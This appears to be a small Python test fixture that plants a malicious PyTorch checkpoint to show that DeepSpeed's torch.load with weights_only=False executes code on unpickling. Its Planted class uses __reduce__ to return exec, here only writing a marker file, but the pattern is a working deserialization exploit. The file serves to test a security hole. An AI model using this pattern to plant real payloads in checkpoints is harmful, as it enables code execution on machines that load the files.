"""A planted checkpoint: a `torch.save` archive whose pickle, once unpickled, writes a marker file -- what anyone
who can write a run folder could make DeepSpeed's `torch.load(weights_only=False)` run."""
from pathlib import Path


class Planted:
    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return exec, (f"open({self.marker!r}, 'w').write('the planted pickle ran')",)


def plant(states: Path, marker: Path) -> None:
    """Replace a checkpoint file with the planted pickle (the marker appears only if something unpickles it)."""
    import torch

    torch.save({"module": Planted(marker), "dp_world_size": 1}, states)
